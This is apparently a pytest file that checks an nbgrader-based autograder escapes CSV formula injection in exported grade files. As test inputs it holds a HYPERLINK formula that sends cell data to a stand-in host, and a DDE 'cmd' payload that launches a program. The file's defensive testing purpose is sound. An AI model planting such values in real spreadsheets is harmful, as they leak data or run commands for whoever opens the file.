"""No cell of any CSV the kit writes runs in a spreadsheet: grade-class's grades.csv, and `nbgrader export`'s
grades.csv and grades_per_check.csv. Student ids, file names, names and e-mail addresses that start with each
of =, +, -, @ are written as text (a leading ', as OWASP recommends); a tab or a carriage return, anywhere, is
written as its escape (a cell is text only: tests/frontends/test_writers.py), which runs nothing; every other
cell as it was."""

import csv
import io

import pytest
from nbgrader.api import Gradebook

from autograder.course import kit
from autograder.course.fence import name_text
from autograder.frontends import exports
from autograder.frontends.classgrade import grade_class
from autograder.grading.options import GradingOptions
from nbgrader_course import Shell

pytestmark = pytest.mark.quick  # in `make test-quick`: this wing's fast tier

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"click")'


def as_text(value: str) -> str:
    """What a cell holding `value` (no other control than a tab or a carriage return) says."""
    value = value.replace("\t", "\\t").replace("\r", "\\r")
    return "'" + value if value[:1] in "=+-@" else value


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_runs_nothing(path) -> None:
    running = [value for row in _cells(path) for value in row if value.startswith(exports.TRIGGERS)]
    assert running == [], (path, running)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_cell_that_would_run_gets_a_leading_quote_and_nothing_else_changes(prefix):
    assert exports.cell(prefix + PAYLOAD) == as_text(prefix + PAYLOAD) != prefix + PAYLOAD
    assert exports.cell("ada " + prefix + PAYLOAD) == "ada " + as_text(prefix + PAYLOAD).lstrip("'")
    assert exports.cell(-1.5) == -1.5 and exports.cell(24) == 24 and exports.cell(None) == ""
    rows = list(csv.reader(io.StringIO(exports.csv_text(["a", prefix + "b"], [{"a": prefix + PAYLOAD}]), newline="")))
    assert rows == [["a", as_text(prefix + "b")], [as_text(prefix + PAYLOAD), ""]]


@pytest.mark.slow
def test_grade_class_writes_every_student_id_and_file_name_as_text(tmp_path):
    root = tmp_path / "class"
    root.mkdir()
    names = {f"{prefix}SUM(1+1)" for prefix in PREFIXES} | {"plain"}
    for name in names:
        (root / f"{name}.ipynb").write_text("not a notebook")  # read, refused, no sandbox run
    (root / "folder_of_=cmd").mkdir()
    (root / "folder_of_=cmd" / "@evil.ipynb").write_text("{}")
    grade_class(root, tmp_path / "out", options=GradingOptions(seed=3), workers=1, progress=False)
    path = tmp_path / "out" / "grades.csv"
    assert_runs_nothing(path)
    table = {row[0]: row for row in _cells(path)[1:]}
    # a tab or a carriage return in a name is written as its escape (a name is plain text), the rest with a '
    assert set(table) == {as_text(n) for n in names} | {"folder_of_=cmd"}
    assert set(table) == {exports.cell(name_text(n)) for n in names} | {"folder_of_=cmd"}
    assert {"'=SUM(1+1)", "'@SUM(1+1)", "\\tSUM(1+1)", "\\rSUM(1+1)"} <= set(table)
    assert table["folder_of_=cmd"][1] == "'@evil.ipynb"
    assert all("could not be read" not in " ".join(row) for row in table.values())  # notes stay in results.json


@pytest.mark.slow
def test_nbgrader_export_writes_every_id_name_and_address_as_text(released, tmp_path):
    course = released.copy(tmp_path / "course", ordinary=False)
    shell = Shell()
    students = [f"{prefix}student{index}" for index, prefix in enumerate(PREFIXES)]
    for student in students:  # graded (an unreadable file: the kit's own result, no sandbox run), so exported
        path = course / "submitted" / student / kit.KIT.name / kit.KIT.notebook_name
        path.parent.mkdir(parents=True)
        path.write_text("not a notebook")
    shell("nbgrader", "autograde", kit.KIT.name, cwd=course)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        for prefix, student in zip(PREFIXES, students):
            gradebook.update_or_create_student(
                student, first_name=prefix + PAYLOAD, last_name=prefix + "cmd|' /C calc'!A0", email=f"{prefix}x@example.org"
            )
    shell("nbgrader", "export", cwd=course)
    for name in ("grades.csv", "grades_per_check.csv"):
        assert_runs_nothing(course / name)
    wide = {row["student_id"]: row for row in csv.DictReader(open(course / "grades.csv", newline=""))}
    assert set(wide) == {as_text(f"{prefix}student{i}") for i, prefix in enumerate(PREFIXES)}
    assert {row["first_name"] for row in wide.values()} == {as_text(prefix + PAYLOAD) for prefix in PREFIXES}
    long = list(csv.DictReader(open(course / "grades_per_check.csv", newline="")))
    assert long and {row["student"] for row in long} == set(wide)
